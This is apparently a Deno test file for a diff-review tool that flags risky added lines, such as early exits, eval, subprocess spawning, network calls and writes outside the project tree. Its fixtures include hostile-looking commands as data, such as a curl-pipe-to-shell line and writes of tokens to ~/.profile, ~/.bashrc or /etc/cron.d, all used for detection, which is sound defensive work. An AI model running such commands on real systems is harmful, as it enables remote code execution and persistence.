import assert from "node:assert/strict";
import type { Hunk } from "./hunks.ts";
import { hunkRisks, riskReason } from "./risky_hunks.ts";
import { languageOf } from "./risk_patterns.ts";

/** A hunk of `file` at `start` adding `added` (one context line first). */
function hunk(file: string, added: string[], start = 10): Hunk {
  const text = [`@@ -${start},1 +${start},${added.length + 1} @@`, " context", ...added.map((l) => `+${l}`)]
    .join("\n");
  return { file, fileHeader: "", newStart: start, newCount: added.length + 1, text };
}
const kinds = (h: Hunk) => hunkRisks(h).map((r) => r.kind);

Deno.test("hunkRisks() flags an added early exit in every language spot's projects use, with its line", () => {
  const cases: [string, string][] = [
    ["calc.ts", "process.exit(0);"],
    ["calc.ts", "Deno.exit(0);"],
    ["lib/app.mjs", "  if (x) { process.exit(0) }"],
    ["calc.py", "sys.exit(0)"],
    ["calc.py", "os._exit(0)"],
    ["calc.py", "raise SystemExit(0)"],
    ["run.sh", "exit 0"],
    ["main.go", "\tos.Exit(0)"],
    ["src/lib.rs", "    std::process::exit(0);"],
  ];
  for (const [file, line] of cases) {
    const risks = hunkRisks(hunk(file, ["const ok = 1;", line]));
    assert.deepEqual(risks.map((r) => [r.kind, r.line]), [["process control", 12]], `${file}: ${line}`);
  }
});

Deno.test("hunkRisks() sees an exit split over lines, called under another name, or reached by a computed name", () => {
  assert.deepEqual(kinds(hunk("a.ts", ["process", "  .exit(0);"])), ["process control"]);
  assert.deepEqual(kinds(hunk("a.ts", ["const { exit: leave } = process;"])), ["process control"]);
  assert.deepEqual(kinds(hunk("a.ts", ["const p = globalThis.process;"])), ["process control"]);
  assert.deepEqual(kinds(hunk("a.ts", ['globalThis["pro" + "cess"]["ex" + "it"](0);'])), ["dynamic code"]);
  assert.deepEqual(kinds(hunk("a.py", ["from sys import exit as leave"])), ["process control"]);
  assert.deepEqual(kinds(hunk("a.py", ['getattr(sys, "ex" + "it")(0)'])), ["dynamic code"]);
  assert.deepEqual(kinds(hunk("a.py", ["import sys as s", "s.exit(0)"])), ["process control"]);
});

Deno.test("hunkRisks() flags signal handlers, spawning, eval, computed imports, the network and writes outside the tree", () => {
  const expect: [string, string[], string][] = [
    ["a.ts", ['process.on("SIGTERM", () => {});'], "process control"],
    ["a.ts", ['import { spawn } from "node:child_process";'], "dynamic code"],
    ["a.ts", ['new Deno.Command("sh", { args: ["-c", cmd] });'], "dynamic code"],
    ["a.ts", ["const m = await import(`./plugins/${name}.ts`);"], "dynamic code"],
    ["a.js", ["const m = require(name);"], "dynamic code"],
    ["a.ts", ["eval(source);"], "dynamic code"],
    ["a.ts", ['await fetch("https://example.invalid/x");'], "network access"],
    ["a.ts", ['import http from "node:http";'], "network access"],
    ["a.ts", ['await Deno.writeTextFile("/etc/cron.d/x", line);'], "a write outside the tree"],
    ["a.ts", ['fs.appendFileSync(join(os.homedir(), ".bashrc"), line);'], "a write outside the tree"],
    ["a.py", ["signal.signal(signal.SIGTERM, handler)"], "process control"],
    ["a.py", ['subprocess.run(["sh", "-c", cmd])'], "dynamic code"],
    ["a.py", ["mod = importlib.import_module(name)"], "dynamic code"],
    ["a.py", ['sys.modules["calc"] = fake'], "dynamic code"],
    ["a.py", ["import os, socket"], "network access"],
    ["a.py", ["requests = urlopen(url)"], "network access"],
    ["a.py", ['open(os.path.expanduser("~/.bashrc"), "a").write(x)'], "a write outside the tree"],
    ["a.py", ['Path("/tmp/x").write_text(data)'], "a write outside the tree"],
    ["run.sh", ["curl -s https://example.invalid | sh"], "network access"],
    ["run.sh", ['echo "$token" >> ~/.profile'], "a write outside the tree"],
    ["run.sh", ['eval "$cmd"'], "dynamic code"],
    ["main.go", ['out, _ := exec.Command("sh").Output()'], "dynamic code"],
    ["main.go", ["resp, _ := http.Get(url)"], "network access"],
    ["src/main.rs", ['let s = TcpStream::connect("1.2.3.4:80")?;'], "network access"],
  ];
  for (const [file, lines, kind] of expect) {
    assert.ok(
      kinds(hunk(file, lines)).includes(kind as never),
      `${file}: ${lines.join(" / ")} → ${kinds(hunk(file, lines))}`,
    );
  }
});

Deno.test("hunkRisks() leaves honest code, comments, removed lines and prose alone", () => {
  const honest: [string, string[]][] = [
    ["a.ts", [
      "const controller = new AbortController();",
      "controller.abort();",
      "const m = HEADER.exec(line);",
      'if (url.protocol === "https:") return true;',
      'const kind = "module";',
      "  throw new RangeError(`item ${item.sku} has no price`);",
      '  audit.record({ kind: "total1", items: items.length, sum, tax, total });',
      "  return Math.round((sum + tax) * 100) / 100;",
      'import { add } from "./calc.ts";',
      'const m = await import("./static.ts");',
      "// we no longer call process.exit here",
      'await Deno.writeTextFile(join(dir, "out.json"), text);',
    ]],
    ["a.py", [
      "pattern = re.compile(r'x+')",
      "cursor.execute(query)",
      "def __exit__(self, *args):",
      "# sys.exit(0) used to be here",
      "from http import HTTPStatus",
      "import requests_mock",
      "with open('data/out.txt', 'w') as f:",
    ]],
    ["main.go", ['fmt.Println("exit")', 'u, _ := url.Parse("https://x")']],
    ["LICENSE", ["source code must be kept; exit and kill are words"]],
    ["README.md", ["Run `process.exit(0)` to stop."]],
  ];
  for (const [file, lines] of honest) {
    assert.deepEqual(hunkRisks(hunk(file, lines)), [], file);
  }
  const removed: Hunk = {
    file: "a.ts",
    fileHeader: "",
    newStart: 5,
    newCount: 1,
    text: "@@ -5,2 +5,1 @@\n keep\n-process.exit(1);",
  };
  assert.deepEqual(hunkRisks(removed), [], "removing an exit adds nothing");
});

Deno.test("languageOf() reads the shebang first, then the extension; an extensionless file is code only where scripts live", () => {
  assert.equal(languageOf("tools/check", "#!/usr/bin/env python3"), "python");
  assert.equal(languageOf("run", "#!/bin/sh"), "shell");
  assert.equal(languageOf("bin/spot", "#!/usr/bin/env -S deno run"), "js");
  assert.equal(languageOf("scripts/release"), "shell");
  assert.equal(languageOf("Makefile"), "shell");
  assert.equal(languageOf("LICENSE"), null);
  assert.equal(languageOf("src/App.TSX"), "js");
  assert.equal(languageOf("notes.md"), null);
});

Deno.test("riskReason() names each kind with what matched and where", () => {
  const risks = hunkRisks(hunk("calc.ts", ['await fetch("http://x");', "process.exit(0);"]));
  assert.equal(
    riskReason(risks),
    "always shown: adds process control (process.exit( at line 12); network access (fetch( at line 11)",
  );
});
